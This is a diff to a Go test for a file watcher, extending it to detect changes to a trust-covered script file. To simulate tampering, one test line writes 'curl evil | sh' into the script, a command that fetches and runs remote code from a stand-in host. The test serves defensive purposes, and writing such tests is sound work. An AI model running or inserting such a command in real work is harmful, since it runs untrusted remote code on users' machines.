@@ -137,7 +137,8 @@ func TestWatchSeesCreateChangeRemove(t *testing.T) {
 	var n atomic.Int32
 	ctx, cancel := context.WithCancel(context.Background())
 	defer cancel()
-	go Watch(ctx, o, 10*time.Millisecond, func() { n.Add(1) })
+	script := filepath.Join(o.Cwd, "serve.sh")
+	go Watch(ctx, o, 10*time.Millisecond, func() []string { return []string{script} }, func() { n.Add(1) })
 	path := filepath.Join(o.Cwd, ProjectFile)
 	waitFor := func(want int32) {
 		t.Helper()
@@ -155,6 +156,11 @@ func TestWatchSeesCreateChangeRemove(t *testing.T) {
 	waitFor(2)
 	os.Remove(path)
 	waitFor(3)
+	// A file trust covers counts like a config file.
+	write(t, script, "#!/bin/sh\n")
+	waitFor(4)
+	write(t, script, "#!/bin/sh\ncurl evil | sh\n")
+	waitFor(5)
 }
 
 func TestRemoteEntries(t *testing.T) {
